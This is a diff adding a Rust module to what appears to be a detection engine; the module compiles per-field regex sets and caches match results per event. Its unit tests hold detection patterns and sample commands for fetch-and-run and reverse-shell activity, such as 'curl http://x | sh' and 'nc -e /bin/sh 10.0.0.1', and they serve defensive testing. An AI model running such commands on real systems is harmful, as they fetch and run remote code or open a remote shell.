@@ -0,0 +1,259 @@
+//! Per-field regex sets
+//!
+//! All regexes that rules apply to the same field are compiled into one
+//! `regex::RegexSet` at rule pack load. The first predicate that asks for a
+//! regex on a field scans the field once with the whole set; the per-pattern
+//! results are cached for the remaining predicates of the same event.
+
+use ahash::AHashMap;
+use kestrel_schema::FieldId;
+use std::cell::RefCell;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::OnceLock;
+
+/// Distinguishes rebuilt sets so cached results are never reused across packs
+static NEXT_GENERATION: AtomicU64 = AtomicU64::new(1);
+
+static NEXT_EVALUATION: AtomicU64 = AtomicU64::new(1);
+
+/// Identifies the evaluation of one event against the rule pack
+///
+/// Predicates evaluated under the same id share cached regex set results;
+/// a fresh id is taken for every event.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct EvaluationId(u64);
+
+impl EvaluationId {
+    /// Allocate an id no earlier evaluation has used
+    pub fn next() -> Self {
+        Self(NEXT_EVALUATION.fetch_add(1, Ordering::Relaxed))
+    }
+}
+
+/// A regex a module applies to an event field
+///
+/// Modules reference these by index (the order of
+/// `IrRule::field_regex_patterns` for EQL-generated modules), so the host
+/// never reads patterns back out of guest memory.
+#[derive(Debug)]
+pub struct FieldRegex {
+    field_id: FieldId,
+    pattern: Box<str>,
+    /// Standalone regex for a pattern missing from the loaded sets, built once
+    fallback: OnceLock<Option<regex::Regex>>,
+}
+
+impl FieldRegex {
+    pub fn new(field_id: FieldId, pattern: impl Into<Box<str>>) -> Self {
+        Self {
+            field_id,
+            pattern: pattern.into(),
+            fallback: OnceLock::new(),
+        }
+    }
+
+    pub fn field_id(&self) -> FieldId {
+        self.field_id
+    }
+
+    pub fn pattern(&self) -> &str {
+        &self.pattern
+    }
+
+    /// Match `value`, the content of this regex's field
+    pub fn is_match(&self, sets: &FieldRegexSets, evaluation: EvaluationId, value: &str) -> bool {
+        if let Some(matched) = sets.is_match(evaluation, self.field_id, &self.pattern, value) {
+            return matched;
+        }
+
+        self.fallback
+            .get_or_init(|| {
+                tracing::debug!(
+                    field_id = self.field_id,
+                    pattern = %self.pattern,
+                    "Regex not in field set"
+                );
+                regex::Regex::new(&self.pattern).ok()
+            })
+            .as_ref()
+            .is_some_and(|re| re.is_match(value))
+    }
+}
+
+/// Regexes applying to one field
+#[derive(Debug)]
+struct FieldRegexSet {
+    set: regex::RegexSet,
+    /// Pattern -> index in `set`
+    slots: AHashMap<Box<str>, usize>,
+}
+
+/// Regex sets of a rule pack, keyed by field
+#[derive(Debug)]
+pub struct FieldRegexSets {
+    generation: u64,
+    fields: AHashMap<FieldId, FieldRegexSet>,
+}
+
+impl Default for FieldRegexSets {
+    fn default() -> Self {
+        Self {
+            generation: 0,
+            fields: AHashMap::new(),
+        }
+    }
+}
+
+/// Cached set results for the event currently being evaluated
+///
+/// Rules for one event are evaluated sequentially on one thread, so a
+/// thread-local cache is shared by all of that event's predicates without
+/// locking.
+struct EventMatches {
+    generation: u64,
+    evaluation: EvaluationId,
+    fields: AHashMap<FieldId, regex::SetMatches>,
+}
+
+thread_local! {
+    static EVENT_MATCHES: RefCell<EventMatches> = RefCell::new(EventMatches {
+        generation: 0,
+        evaluation: EvaluationId(0),
+        fields: AHashMap::new(),
+    });
+}
+
+impl FieldRegexSets {
+    /// Build one set per field from `(field_id, pattern)` pairs
+    pub fn build(
+        patterns: impl IntoIterator<Item = (FieldId, String)>,
+    ) -> Result<Self, regex::Error> {
+        let mut by_field: AHashMap<FieldId, Vec<String>> = AHashMap::new();
+        for (field_id, pattern) in patterns {
+            let field_patterns = by_field.entry(field_id).or_default();
+            if !field_patterns.contains(&pattern) {
+                field_patterns.push(pattern);
+            }
+        }
+
+        let mut fields = AHashMap::with_capacity(by_field.len());
+        for (field_id, field_patterns) in by_field {
+            let set = regex::RegexSet::new(&field_patterns)?;
+            let slots = field_patterns
+                .into_iter()
+                .enumerate()
+                .map(|(slot, pattern)| (pattern.into_boxed_str(), slot))
+                .collect();
+            fields.insert(field_id, FieldRegexSet { set, slots });
+        }
+
+        Ok(Self {
+            generation: NEXT_GENERATION.fetch_add(1, Ordering::Relaxed),
+            fields,
+        })
+    }
+
+    /// Number of fields with a regex set
+    pub fn field_count(&self) -> usize {
+        self.fields.len()
+    }
+
+    /// Number of patterns across all fields
+    pub fn pattern_count(&self) -> usize {
+        self.fields.values().map(|f| f.set.len()).sum()
+    }
+
+    /// Match `pattern` against `value`, the content of `field_id` in the
+    /// event under `evaluation`
+    ///
+    /// Returns `None` if the pattern was not registered for the field; the
+    /// caller then falls back to a standalone regex.
+    pub fn is_match(
+        &self,
+        evaluation: EvaluationId,
+        field_id: FieldId,
+        pattern: &str,
+        value: &str,
+    ) -> Option<bool> {
+        let field_set = self.fields.get(&field_id)?;
+        let slot = *field_set.slots.get(pattern)?;
+
+        let matched = EVENT_MATCHES.with(|cache| {
+            let mut cache = cache.borrow_mut();
+            if cache.generation != self.generation || cache.evaluation != evaluation {
+                cache.generation = self.generation;
+                cache.evaluation = evaluation;
+                cache.fields.clear();
+            }
+            cache
+                .fields
+                .entry(field_id)
+                .or_insert_with(|| field_set.set.matches(value))
+                .matched(slot)
+        });
+
+        Some(matched)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_patterns_grouped_by_field() {
+        let sets = FieldRegexSets::build(vec![
+            (7, r"curl .*\| *sh".to_string()),
+            (7, r"base64 -d".to_string()),
+            (7, r"base64 -d".to_string()),
+            (9, r"^/tmp/".to_string()),
+        ])
+        .unwrap();
+
+        assert_eq!(sets.field_count(), 2);
+        assert_eq!(sets.pattern_count(), 3);
+    }
+
+    #[test]
+    fn test_results_cached_per_event() {
+        let sets = FieldRegexSets::build(vec![
+            (7, r"curl .*\| *sh".to_string()),
+            (7, r"base64 -d".to_string()),
+        ])
+        .unwrap();
+
+        let first = EvaluationId::next();
+        let value = "curl http://x | sh";
+        assert_eq!(sets.is_match(first, 7, r"curl .*\| *sh", value), Some(true));
+        assert_eq!(sets.is_match(first, 7, r"base64 -d", value), Some(false));
+
+        // A new evaluation invalidates the cached results, even for an event
+        // with the same id and timestamp
+        let second = EvaluationId::next();
+        let value = "echo aGk= | base64 -d";
+        assert_eq!(
+            sets.is_match(second, 7, r"curl .*\| *sh", value),
+            Some(false)
+        );
+        assert_eq!(sets.is_match(second, 7, r"base64 -d", value), Some(true));
+
+        // Unregistered patterns and fields fall back to the caller
+        assert_eq!(sets.is_match(second, 7, r"nc -e", value), None);
+        assert_eq!(sets.is_match(second, 8, r"base64 -d", value), None);
+    }
+
+    #[test]
+    fn test_field_regex_falls_back_once() {
+        let sets = FieldRegexSets::build(vec![(7, r"base64 -d".to_string())]).unwrap();
+        let evaluation = EvaluationId::next();
+
+        let registered = FieldRegex::new(7, r"base64 -d");
+        assert!(registered.is_match(&sets, evaluation, "echo aGk= | base64 -d"));
+        assert!(registered.fallback.get().is_none());
+
+        let unregistered = FieldRegex::new(7, r"nc -e");
+        assert!(unregistered.is_match(&sets, evaluation, "nc -e /bin/sh 10.0.0.1"));
+        assert!(!unregistered.is_match(&sets, evaluation, "ls"));
+        assert!(unregistered.fallback.get().is_some());
+    }
+}